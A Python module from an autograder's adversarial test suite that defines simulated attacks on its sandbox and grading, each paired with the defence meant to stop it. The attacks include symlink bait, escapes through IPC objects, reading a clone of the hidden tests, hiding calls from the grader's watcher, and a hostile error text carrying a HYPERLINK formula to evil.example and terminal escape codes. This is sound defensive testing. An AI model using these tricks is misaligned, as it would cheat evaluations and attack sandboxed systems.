"""Attacks on the machine, the batch and the grade (issue 11): one entry per class, each naming its defence.

    1 root deletes files it does not own      symlink bait in shared folders        mnt (+ clean-up as the box's user)
    2 the trusted process allocates gigabytes a billion elements in a tiny frame    the wire's size checks
    3 resources outlive the sandbox           SysV/POSIX IPC, files in /run/lock    ipc, mnt, landlock, seccomp
    3b a channel between boxes                locks on a file both may read         seccomp
    4 one submission costs another points     detached busy processes               pid (+ CPU-time limits)
    5 self-reported facts decide points       SDPA hidden from the watcher          the rule is worth no points
    6 isolation depends on the host           a world-readable clone of the tests   landlock (and mnt for /tmp)
    7 rows collide                            `slug a`, `slug_a`, `slug_a-2`        slugs owned by sources
    8 student text reaches people raw         formula and escape-code text          sanitize.py
    9 a zip oddity crashes its worker         a file and a folder of one name       an error row
   10 code shipped only as bytecode           the solution as .pyc                  .pyc dropped, flagged

`defence` names the isolation layers (AUTOGRADER_SANDBOX_LAYERS_OFF) that stop the attack, where layers do
(a clone in /tmp is hidden by the private /tmp and by Landlock alike); tests/test_engine.py grades those entries
again with them switched off and sees each attack succeed. The other classes are shown the same way by tests
of their own (the old clean-up, the old wire, the old row names, the .pyc left in place).
"""
from __future__ import annotations

import os
import pathlib
import py_compile
import shutil
import tempfile
import zipfile
import zlib

from autograder.adversarial import abuse
from autograder.adversarial.base import Context, Entry, payload, stub_init
from autograder.adversarial.expectations import Expectation
from autograder.samples import edited_reference, reference_source, write_submission
from grader.paths import REPO, STUDENT_DIR

RUN_AT_IMPORT = "\nfrom ._attack import run as _run_attack\n\n_run_attack()\n"
HOG_MARK = "autograder-hog-of-a-submission"
MANUAL_CALL = ("            heads, _ = scaled_dot_product_attention(q, k, v, mask, is_causal=is_causal, "
               "dropout_p=dropout_p)")
MANUAL_VIA_SDPA = "            heads = self._fused_attention(q, k, v, mask, is_causal, dropout_p)"
FUSED_CALL = ("        return F.scaled_dot_product_attention(q, k, v, attn_mask=mask, dropout_p=dropout_p, "
              "is_causal=is_causal)")
FUSED_VIA_MANUAL = ("        return scaled_dot_product_attention(q, k, v, mask, is_causal=is_causal, "
                    "dropout_p=dropout_p)[0]")
MANUAL_VIA_HIDDEN_SDPA = ("            with torch._C.DisableTorchFunction():\n"
                          "                heads = self._fused_attention(q, k, v, mask, is_causal, dropout_p)")
HOSTILE_ERROR = """\
class Hostile(Exception):
    pass
Hostile.__name__ = '=HYPERLINK("http://evil.example/"&A1,"grades")'
print("\\x1b]52;c;ZXZpbA==\\x07\\x1b[2K\\x1b[1Aall tests passed\\u202e")
raise Hostile("\\x1b[31mred\\x1b[0m \\x1b]0;owned\\x07 message\\r\\n=1+1")"""


def _zoo_bug(name: str) -> dict[str, str]:
    """The files of one bug of the grading zoo (autograder/zoo/bugs.py)."""
    from autograder.zoo.bugs import BUGS
    return next(bug.overrides for bug in BUGS if bug.name == name)


def ipc_key(context: Context) -> int:
    return zlib.crc32(str(context.root).encode()) & 0x7FFFFFFF or 1


def litter_name(context: Context) -> str:
    return f"{context.markers.name}-litter11"


def clone_folder(context: Context) -> pathlib.Path:
    """A world-readable copy of the hidden tests outside the repository, as a grader's stray clone would be."""
    return pathlib.Path(tempfile.gettempdir()) / f"{context.root.parent.name}-{context.root.name}-clone"


def at_import(name: str, *, solution: bool, **fields):
    def write(dest, context: Context):
        init = (STUDENT_DIR / "__init__.py").read_text() + RUN_AT_IMPORT
        values = {"key": str(ipc_key(context)), "litter": litter_name(context), "mark": HOG_MARK, **fields}
        overrides = {"__init__.py": init, "_attack.py": payload(name, context, **values),
                     "_common.py": payload("_common", context)}
        write_submission(dest, solution=solution, overrides=overrides)
        if name == "symlink_bait":
            bait = context.markers / "bait"
            bait.mkdir(mode=0o700, exist_ok=True)
            (bait / "keep.txt").write_text("root's file: no submission may make root delete it\n")
        if name == "read_clone":
            _plant_clone(clone_folder(context))
    return write


def _plant_clone(folder: pathlib.Path) -> None:
    if folder.exists():
        shutil.rmtree(folder)
    shutil.copytree(REPO / "grading_tests", folder / "grading_tests", ignore=shutil.ignore_patterns("__pycache__"))
    for path in [folder, *folder.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)


def cheat_with(name: str):
    def write(dest, context: Context):
        hook = "\nfrom ._attack import install as _install_attack\n\n_install_attack(globals())\n"
        write_submission(dest, solution=False, overrides={"__init__.py": stub_init() + hook,
                                                          "_attack.py": payload(name, context),
                                                          "_common.py": payload("_common", context)})
    return write


def _bytecode_zip(dest: pathlib.Path, _context: Context) -> None:
    """The stubs' package, whose graded modules only re-export a compiled (.pyc) copy of the reference."""
    with tempfile.TemporaryDirectory() as scratch:
        folder = write_submission(pathlib.Path(scratch) / "src", solution=False)
        package = folder / "student"
        for module in ("scaling", "masking", "heads", "padding", "multihead"):
            source = pathlib.Path(scratch) / f"_{module}_impl.py"
            source.write_text(reference_source(f"{module}.py"))
            py_compile.compile(str(source), cfile=str(package / f"_{module}_impl.pyc"), doraise=True)
            (package / f"{module}.py").write_text(f"from ._{module}_impl import *  # noqa: F403\n")
        with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as archive:
            for path in sorted(package.rglob("*")):
                if path.is_file():
                    archive.write(path, path.relative_to(folder).as_posix())


def _file_and_folder_zip(dest: pathlib.Path, _context: Context) -> None:
    with tempfile.TemporaryDirectory() as scratch:
        folder = write_submission(pathlib.Path(scratch) / "src")
        with zipfile.ZipFile(dest, "w") as archive:
            for path in sorted((folder / "student").rglob("*")):
                if path.is_file():
                    archive.write(path, path.relative_to(folder).as_posix())
            archive.writestr("student/heads.py/extra.py", "x = 1\n")


def _reference(dest, _context: Context):
    write_submission(dest)


def _stubs(dest, _context: Context):
    write_submission(dest, solution=False)


def entries(context: Context) -> list[Entry]:
    litter = litter_name(context)
    shared = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")
    files = tuple(f"{folder}/{litter}" for folder in shared) + tuple(f"{f}/{litter}-swap" for f in shared)
    return [
        Entry(Expectation("escape-symlink-bait-for-root", "abuse", "graded",
                          "plants links to a root-only folder in shared folders and swaps them during clean-up",
                          baseline="reference",
                          kept_paths=(str(context.markers / "bait" / "keep.txt"),), forbidden_paths=files[4:]),
              at_import("symlink_bait", solution=True), needs_root=True),
        Entry(Expectation("cheat-billion-element-frame", "cheat", "graded",
                          "a 100-byte answer claiming a billion-element tensor, to make the grader allocate 4 GB",
                          score=0.0, message="refused", flag="tampering with the sandbox"),
              cheat_with("huge_frame")),
        Entry(Expectation("escape-outlive-the-sandbox", "abuse", "graded",
                          "System V shared memory and queues, a POSIX queue, files in /run/lock and /dev/shm (stopped "
                          "by its own IPC namespace, or where the kernel gives none, by the seccomp filter, which "
                          "refuses them, and by its own user: what that user owns is removed, and it may make no "
                          "POSIX queue)",
                          baseline="reference", defence="ipc,uid,seccomp", forbidden_paths=files[:4],
                          forbidden_ipc_key=ipc_key(context), forbidden_queue=f"/{litter}-mq"),
              at_import("outlive", solution=True), needs_root=True),
        Entry(Expectation("escape-lock-a-read-only-file", "abuse", "graded",
                          "takes a whole-file lock and a byte-range lock on a file of its own submission that it may "
                          "only read: the channel two boxes over the same files would share (the seccomp layer "
                          "refuses every lock)", baseline="reference", defence="seccomp",
                          forbidden_output=("GOT A LOCK",)),
              at_import("lock_file", solution=True)),
        Entry(Expectation("escape-detached-busy-processes", "abuse", "graded",
                          "four detached processes spinning forever: they die with the box, nobody loses points",
                          baseline="reference", forbidden_process=f"-c while True: pass {HOG_MARK}"),
              at_import("hogs", solution=True), needs_root=True),
        Entry(Expectation("bug-sdpa-in-manual-path", "control", "graded",
                          "calls torch's SDPA in the manual path: correct values, but every test that runs the manual "
                          "module earns nothing (the spec's forbidden_calls = cost), and it is flagged",
                          baseline="reference", lost_parts=(5, 6),
                          flag="manual path called torch's scaled_dot_product_attention"),
              lambda dest, _c: write_submission(dest, overrides=edited_reference("multihead.py", MANUAL_CALL,
                                                                                 MANUAL_VIA_SDPA))),
        Entry(Expectation("bug-fused-path-is-manual", "control", "graded",
                          "the fused path computes attention by hand: correct values, but the tests that run it earn "
                          "nothing, and it is flagged", baseline="reference", lost_parts=(6,),
                          flag="fused path never called torch's F.scaled_dot_product_attention"),
              lambda dest, _c: write_submission(dest, overrides=edited_reference("multihead.py", FUSED_CALL,
                                                                                 FUSED_VIA_MANUAL))),
        Entry(Expectation("cheat-sdpa-output-thrown-away", "cheat", "graded",
                          "the fused path computed by hand, with SDPA called on a slice whose output it throws away, "
                          "so the watch sees the call: its arguments are not the graded call's "
                          "(grader/gateway/sdpa_calls.py), so it earns what the path that never calls SDPA earns",
                          no_better_than="bug-fused-path-is-manual", flag="does not come from its F.scaled_dot"),
              lambda dest, _c: write_submission(dest, overrides=_zoo_bug("fused-sdpa-output-thrown-away"))),
        Entry(Expectation("cheat-sdpa-hidden-from-the-watch", "cheat", "graded",
                          "the same, hidden from the torch function watch (DisableTorchFunction): its source shows the "
                          "switch, so every test that runs its code earns nothing",
                          no_better_than="bug-sdpa-in-manual-path", flag="switches off the modes"),
              lambda dest, _c: write_submission(dest, overrides=edited_reference("multihead.py", MANUAL_CALL,
                                                                                 MANUAL_VIA_HIDDEN_SDPA))),
        Entry(Expectation("cheat-read-a-world-readable-clone", "cheat", "graded",
                          "prints the hidden tests from a world-readable copy of the repository in /tmp",
                          score=0.0, defence="mnt,landlock", forbidden_output=("HIDDEN TESTS FROM",),
                          needs_layer="mnt,landlock"),
              at_import("read_clone", solution=False)),
        Entry(Expectation("slug a", "control", "graded", "one of three names with one safe spelling", score=100.0),
              _reference),
        Entry(Expectation("slug_a", "control", "graded", "one of three names with one safe spelling", score=0.0),
              _stubs),
        Entry(Expectation("slug_a-2", "control", "graded", "one of three names with one safe spelling", score=0.0),
              _stubs),
        Entry(Expectation('=HYPERLINK("x") hostile text', "abuse", "graded",
                          "an exception named like a spreadsheet formula, escape codes in its message and output",
                          baseline="reference", lost_parts=(4,)),
              abuse.abusive("padding.py", "expand_padding_mask", HOSTILE_ERROR)),
        Entry(Expectation("input-file-and-folder-zip", "input", "error", "student/heads.py is a file and a folder",
                          score=0.0, message="both a file and a folder"), _file_and_folder_zip, ".zip"),
        Entry(Expectation("cheat-solution-only-as-bytecode-zip", "cheat", "error",
                          "stub .py files re-exporting the reference compiled to .pyc", score=0.0,
                          flag="code shipped only as bytecode"), _bytecode_zip, ".zip"),
    ]


def remove_planted(context: Context) -> None:
    """What the writers put outside the zoo (the clone); the markers folder goes with the zoo's owner."""
    shutil.rmtree(clone_folder(context), ignore_errors=True)

